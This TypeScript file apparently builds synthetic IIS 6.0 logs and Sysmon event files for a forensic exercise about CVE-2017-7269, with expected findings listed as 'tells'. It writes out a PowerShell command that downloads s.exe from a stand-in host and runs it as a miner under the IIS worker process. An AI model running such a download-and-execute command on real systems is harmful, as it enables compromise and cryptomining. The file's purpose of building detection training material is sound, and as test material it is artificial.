/**
 * CVE-2017-7269: PROPFIND requests to IIS 6.0, whose worker process then starts a shell that fetches a miner. That
 * Windows keeps its events as .evt; these are a collector's copy, which is an .evtx.
 */
import { evtxFile } from '../evtx-writer.ts';
import { day } from './clock.ts';
import { iisFields, iisLine, type Line, visits, written } from './noise.ts';
import { attacker, minerArguments, night, type Story, weekBegins, weekEnds } from './story.ts';
import { triedAndFailed } from './tried.ts';
import { inOrder, logonNoise, sysmonFile, sysmonNoise, sysmonStart } from './windows.ts';

const computer = 'SHOP-WEB1';
const propfind = (ms: number, client: string, status: number): Line =>
  iisLine({ ms, client, method: 'PROPFIND', target: '/', status, bytes: 0, agent: '-' });

/** The overflow needs its few tries; another robot was answered that there is no such thing. */
const attack = [
  propfind(night, attacker, 207),
  propfind(night + 2_000, attacker, 207),
  propfind(night + 4_000, attacker, 500),
  propfind(night - 2 * day - 7_000_000, '192.0.2.150', 501),
];

const worker = { pid: 2_204, program: 'c:\\windows\\system32\\inetsrv\\w3wp.exe' };
const shell = { pid: 5_120, program: 'C:\\WINDOWS\\system32\\cmd.exe' };
const fetcher = { pid: 5_132, program: 'C:\\WINDOWS\\system32\\WindowsPowerShell\\v1.0\\powershell.exe' };
const fetching =
  "powershell -nop -c \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.9/s.exe','C:\\WINDOWS\\Temp\\s.exe')\"";
const user = 'NT AUTHORITY\\NETWORK SERVICE';
const folder = 'c:\\windows\\system32\\inetsrv\\';
const miner = 'C:\\WINDOWS\\Temp\\s.exe';

const deeds = [
  sysmonStart(computer, {
    ms: night + 5_100,
    ...shell,
    command: `cmd.exe /c ${fetching} & ${miner} ${minerArguments.join(' ')}`,
    parent: {
      ...worker,
      command: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -a \\\\.\\pipe\\iisipm -ap "DefaultAppPool"',
    },
    user,
    folder,
  }),
  sysmonStart(computer, {
    ms: night + 5_400,
    ...fetcher,
    command: fetching,
    parent: { ...shell, command: `cmd.exe /c ${fetching}` },
    user,
    folder,
  }),
  sysmonFile(computer, night + 7_900, fetcher.pid, fetcher.program, miner),
  sysmonStart(computer, {
    ms: night + 9_200,
    pid: 5_160,
    program: miner,
    command: `${miner} ${minerArguments.join(' ')}`,
    parent: { ...shell, command: `cmd.exe /c ${fetching}` },
    user,
    folder,
  }),
];

const requests = [...visits(weekBegins, weekEnds, 60, 11), ...triedAndFailed(weekBegins, weekEnds, 0.3, 12)].map(
  iisLine,
);

/** A log a day, each with its header. */
const logs = Array.from({ length: 7 }, (_, i) => weekBegins + i * day).map((from): [string, string] => {
  const date = new Date(from).toISOString().slice(0, 10);
  const header = `#Software: Microsoft Internet Information Services 6.0\n#Version: 1.0\n#Date: ${date} 00:00:00\n#Fields: ${iisFields}\n`;
  const lines = [...requests, ...attack].filter(({ ms }) => ms >= from && ms < from + day);
  return [
    `LogFiles/W3SVC1/u_ex${date.slice(2).replaceAll('-', '')}.log`,
    (header + written(lines)).replaceAll('\n', '\r\n'),
  ];
});

const events = 'collector/SHOP-WEB1-Sysmon.evtx';

export const iis: Story = {
  name: 'IIS',
  files: {
    ...Object.fromEntries(logs),
    [events]: evtxFile(inOrder(sysmonNoise(computer, weekBegins, weekEnds, 14, 13), deeds)),
    'collector/SHOP-WEB1-Security.evtx': evtxFile(logonNoise(computer, weekBegins, weekEnds, 14)),
  },
  reading: 'exploit',
  begins: night,
  tells: [/CVE-2017-7269/, /w3wp\.exe/, /s\.exe/],
  requests: ['LogFiles/W3SVC1/u_ex261103.log'],
  deeds: [events],
};
